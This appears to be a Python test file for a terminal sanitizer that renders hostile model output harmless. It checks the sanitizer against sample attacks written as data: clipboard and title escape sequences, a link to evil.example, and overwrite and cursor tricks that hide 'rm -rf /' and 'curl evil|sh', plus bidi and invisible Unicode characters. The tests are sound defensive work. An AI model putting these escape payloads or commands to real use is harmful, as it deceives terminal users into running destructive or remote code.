"""The terminal sanitizer: nothing from a model may move, hide, ring, rename or copy anything."""

from __future__ import annotations

import unicodedata

import pyte
import pytest
from hypothesis import given
from hypothesis import strategies as st

from launchpad.sanitize import Sanitizer, clean

HOSTILE = {
    "osc 52 clipboard": ("\x1b]52;c;cHduZWQ=\x07", "␛]52;c;cHduZWQ="),
    "osc 0 title": ("\x1b]0;pwned\x1b\\", "␛]0;pwned␛\\"),
    "osc 8 open only": ("\x1b]8;;https://evil.example\x07click", "␛]8;;https://evil.exampleclick"),
    "reset": ("a\x1bcb", "a␛cb"),
    "concealed": ("\x1b[8mhidden\x1b[0m", "␛[8mhidden␛[0m"),
    "dcs": ("\x1bPq#0;2;0;0;0\x1b\\", "␛Pq#0;2;0;0;0␛\\"),
    "apc": ("\x1b_Gf=24\x1b\\", "␛_Gf=24␛\\"),
    "8-bit csi": ("\x9b2Jx", "2Jx"),
    "8-bit osc": ("\x9d0;pwned\x9c", "0;pwned"),
    "overwrite": ("rm -rf /\rls      ", "rm -rf /\nls      "),
    "crlf": ("a\r\nb\r\r\nc", "a\nb\n\nc"),
    "hidden command": ("curl evil|sh\x1b[24D\x1b[Kls", "curl evil|sh␛[24D␛[Kls"),
    "backspaces": ("secret" + "\b" * 10_000, "secret"),
    "bell, nul, del": ("a\x07\x00\x7fb", "ab"),
    "vertical tab, form feed, shift out": ("a\x0b\x0c\x0eb", "ab"),
    "bidi override": ("\u202egnp.exe\u202c", "\\u{202E}gnp.exe\\u{202C}"),
    "bidi isolate": ("\u2066x\u2069", "\\u{2066}x\\u{2069}"),
    "zero width": ("a\u200bb\ufeffc\u2060d", "a\\u{200B}b\\u{FEFF}c\\u{2060}d"),
    "joiner in ascii": ("pass\u200dword", "pass\\u{200D}word"),
    "joiners in a row": ("é\u200d\u200dé", "é\\u{200D}\\u{200D}é"),
    "tags": ("hi\U000e0069\U000e0067", "hi\\u{E0069}\\u{E0067}"),
    "selectors in a row": ("❤\ufe0f\ufe0f", "❤\ufe0f\\u{FE0F}"),
    "selector in ascii": ("rm\ufe0f 1\ufe0f2", "rm\\u{FE0F} 1\\u{FE0F}2"),
    "supplementary selectors": ("😀\U000e0148\U000e0155", "😀\\u{E0148}\\u{E0155}"),
    "line separator": ("a\u2028b", "a\\u{2028}b"),
    "lone surrogates": ("a\ud83db\ude00", "a\\u{D83D}b\\u{DE00}"),
}
HONEST = {
    "plain": "Hello,\n\tworld – naïve “quotes” ✓",
    "cjk": "你好，世界。こんにちは",
    "arabic": "مرحبا بالعالم",
    "persian with joiners": "می\u200cخواهم",
    "hindi with joiners": "क्\u200dष",
    "emoji family": "👨\u200d👩\u200d👧",
    "emoji with skin tone": "👍🏽",
    "heart on fire": "❤\ufe0f\u200d🔥",
    "keycap": "1\ufe0f\u20e3 first",
    "flag": "🇫🇷",
}


def sanitized(chunks: list[str]) -> str:
    sanitizer = Sanitizer()
    return "".join([sanitizer.feed(chunk) for chunk in chunks]) + sanitizer.close()


@pytest.mark.parametrize(("text", "expected"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_shown_not_obeyed(text: str, expected: str) -> None:
    assert sanitized([text]) == expected


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_text_is_untouched(text: str) -> None:
    assert sanitized([text]) == text
    assert sanitized(list(text)) == text


@pytest.mark.parametrize(("text", "expected"), HOSTILE.values(), ids=HOSTILE)
def test_every_cut_gives_the_same(text: str, expected: str) -> None:
    text = text[:200]
    expected = sanitized([text])
    for first in range(len(text) + 1):
        assert sanitized([text[:first], "", text[first:]]) == expected
    assert sanitized(list(text)) == expected


def test_nothing_is_shown_late_but_a_joiner() -> None:
    sanitizer = Sanitizer()
    assert sanitizer.feed("a\r") == "a\n"
    assert sanitizer.feed("\nb\u200d") == "b"
    assert sanitizer.close() == "\\u{200D}"
    assert sanitizer.feed("\nc") == "\nc"


TRICKY = st.text(
    st.one_of(
        st.sampled_from("\r\n\t\x1b\x9b\x07\b[]\\;mJ\u200b\u200c\u200d\ufe0f\u20e3\u202e\U000e0041aé1❤👩"),
        st.characters(exclude_categories=()),
    )
)


@given(TRICKY)
def test_no_control_character_ever_passes(text: str) -> None:
    shown = sanitized([text])
    assert not [char for char in shown if unicodedata.category(char) in ("Cc", "Cs") and char not in "\n\t"]
    assert not set("\u200b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff") & set(shown)
    shown.encode()


@given(st.lists(TRICKY))
def test_splitting_never_changes_the_result(chunks: list[str]) -> None:
    assert sanitized(chunks) == sanitized(["".join(chunks)])


@given(TRICKY)
def test_sanitizing_twice_is_sanitizing_once(text: str) -> None:
    assert sanitized([sanitized([text])]) == sanitized([text])


@given(TRICKY)
def test_clean_is_one_line(text: str) -> None:
    shown = clean(text)
    assert not set("\n\r\t\x1b\u200d\u200c\ufe0f") & set(shown)


def test_clean_shows_a_hostile_name_on_one_line() -> None:
    assert clean("qwen\u200d3\n\x1b[2J\tx") == "qwen\\u{200D}3 ␛[2J x"


class RecordingScreen(pyte.Screen):
    """A screen that remembers every request to do more than show text."""

    def __init__(self) -> None:
        super().__init__(80, 200)
        self.requests: list[str] = []

    def set_title(self, param: str) -> None:
        self.requests.append(param)

    def set_icon_name(self, param: str) -> None:
        self.requests.append(param)

    def bell(self, *args: object) -> None:
        self.requests.append("bell")

    def report_device_attributes(self, mode: int = 0, **kwargs: object) -> None:
        self.requests.append("report")


@pytest.mark.parametrize(("text", "expected"), HOSTILE.values(), ids=HOSTILE)
def test_a_terminal_shows_the_escapes_as_text(text: str, expected: str) -> None:
    screen = RecordingScreen()
    stream = pyte.Stream(screen)
    shown = (
        sanitized([text]).replace("\n", "\r\n").replace("\ufe0f", "")
    )  # pyte stops at a variation selector
    stream.feed(f"before\r\n{shown}\r\nafter")
    lines = [line.rstrip() for line in screen.display if line.strip()]
    assert screen.requests == []
    assert lines[0] == "before"
    assert lines[-1] == "after"
    assert [char for char in "".join(lines[1:-1]) if char.isascii() and not char.isspace()] == [
        char for char in expected if char.isascii() and not char.isspace()
    ]
